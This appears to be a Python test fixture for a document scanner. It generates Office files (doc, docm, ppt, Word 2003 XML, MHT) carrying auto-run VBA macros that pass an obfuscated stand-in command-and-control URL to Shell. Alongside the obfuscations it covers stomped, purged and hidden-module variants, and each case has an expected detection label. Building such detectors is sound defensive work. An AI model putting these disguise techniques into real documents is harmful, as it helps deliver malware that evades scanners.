"""VBA in documents of each kind, in each disguise (catalogue B42)."""

from __future__ import annotations

import base64

from office_maker import AUTO, HOST, URL, Cases, active_mime, ole_vba, package, slides, word
from ole_maker import compiled, compound, packed, source, vba

HEX, B64 = URL.encode().hex(), base64.b64encode(f"powershell {URL}".encode()).decode()
CHARS = " & ".join(f"Chr({ord(letter)})" for letter in URL)
NUMBERS = ", ".join(str(ord(letter)) for letter in URL)


def macros() -> Cases:
    """The cases."""
    cases = Cases()
    made = {
        "joined": 'x = "http" & "://c2.mal" + "ware.example/gate"',
        "characters": f"x = {CHARS}",
        "hexadecimal characters": "x = " + " & ".join(f"ChrW(&H{ord(letter):X})" for letter in URL),
        "backwards": f'x = StrReverse("{URL[::-1]}")',
        "hexadecimal": f'x = Decode("{HEX}")',
        "base64": f'x = Decode("{B64}")',
        "wide base64": f'x = Decode("{base64.b64encode(URL.encode("utf-16-le")).decode()}")',
        "replaced": f'x = Replace("{URL.replace("e", "QQ")}", "QQ", "e")',
        "list joined": f'x = Join(Array("http:", "", "{HOST}", "gate"), "/")',
        "split": f'x = Join(Split("{URL.replace("/", "#")}", "#"), "/")',
        "numbers": f"x = Array({NUMBERS})",
        "variables": 'a = "http://"\r\nb = "c2.malware"\r\nx = a & b\r\nx = x & ".example/gate"',
        "constants": 'Const a As String = "http://c2.mal"\r\nx = a & "ware.example/gate"',
        "continued line": 'x = "http://c2.mal" & _\r\n  "ware.example/gate"',
        "calculated": "x = " + " & ".join(f"Chr({ord(letter) + 7} - 7)" for letter in URL),
        "masked": "x = " + " & ".join(f"Chr({ord(letter) ^ 90} Xor 90)" for letter in URL),
        "pieces": f'x = Left("{URL}zzz", {len(URL)}) & Mid("xx/a", 3, 2)',
    }
    for title, line in made.items():
        cases.put(
            f"B42 {title}",
            "a.doc",
            ole_vba(f"Sub AutoOpen()\r\n{line}\r\nShell x\r\nEnd Sub"),
            "office-auto-macro office-macro-suspicious",
        )
    cases.put(
        "B42 package",
        "a.docm",
        package({"word/document.xml": "<w:document/>", "word/vbaProject.bin": ole_vba(AUTO)}),
        "office-auto-macro",
    )
    cases.put(
        "B42 other name in the package",
        "a.docm",
        package({"word/document.xml": "<w:document/>", "word/media/image1.png": ole_vba(AUTO)}),
        "office-auto-macro",
    )
    cases.put(
        "B42 presentation", "a.ppt", compound({"PowerPoint Document": slides(ole_vba(AUTO))}), "office-auto-macro"
    )
    cases.put("B42 Word of 2003", "a.xml", _word_2003(), "office-auto-macro")
    cases.put("B42 saved page", "a.mso", active_mime(ole_vba(AUTO)), "office-auto-macro")
    cases.put(
        "B42 document in a document",
        "a.docx",
        word(
            **{"word/embeddings/x.bin": package({"xl/workbook.xml": "<workbook/>", "xl/vbaProject.bin": ole_vba(AUTO)})}
        ),
        "office-auto-macro",
    )
    cases.put(
        "B42 stomped to nothing", "a.doc", ole_vba("\0", compiled=compiled(URL, "cmd /c")), "office-macro-stomped"
    )
    cases.put(
        "B42 stomped to other code",
        "a.doc",
        ole_vba("Sub a()\r\nx = 1\r\nEnd Sub", compiled=compiled(URL)),
        "office-macro-stomped",
    )
    cases.put("B42 purged", "a.doc", ole_vba(AUTO), "office-macro-purged office-auto-macro")
    cases.put("B42 wrong signature", "a.doc", ole_vba(AUTO, signature=b"\x02"), "office-auto-macro", "malformed")
    cases.put("B42 no directory", "a.doc", ole_vba(AUTO, dir=b"junk"), "office-auto-macro", "malformed")
    cases.put(
        "B42 hidden module",
        "a.doc",
        ole_vba(AUTO, project=b"Document=ThisDocument\r\n"),
        "office-macro-hidden office-auto-macro",
    )
    cases.put(
        "B42 module without an entry",
        "a.doc",
        compound({**vba({"Module1": "Sub a()\r\nEnd Sub"}), "VBA/Other": packed(source("Other", AUTO))}),
        "office-macro-hidden office-auto-macro",
    )
    cases.put(
        "B42 text of a form",
        "a.doc",
        compound(
            {
                **vba({"Module1": "Sub AutoOpen()\r\nShell UserForm1.Label1.Caption\r\nEnd Sub"}),
                "UserForm1/o": b"\0\2" + f"cmd {URL}".encode() + b"\0",
            }
        ),
        "office-auto-macro",
    )
    cases.put(
        "B42 property",
        "a.doc",
        compound(
            {
                **vba({"Module1": "Sub AutoOpen()\r\nShell x\r\nEnd Sub"}),
                "\x05SummaryInformation": b"\0" * 9 + HEX.encode() + b"\0",
            }
        ),
        "office-auto-macro",
    )
    return cases


def _word_2003() -> str:
    data = base64.encodebytes(active_mime(ole_vba(AUTO))).decode()
    return (
        "<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument "
        "xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'>"
        "<w:docSuppData><w:binData w:name='editdata.mso'>"
        f"{data}</w:binData></w:docSuppData></w:wordDocument>"
    )
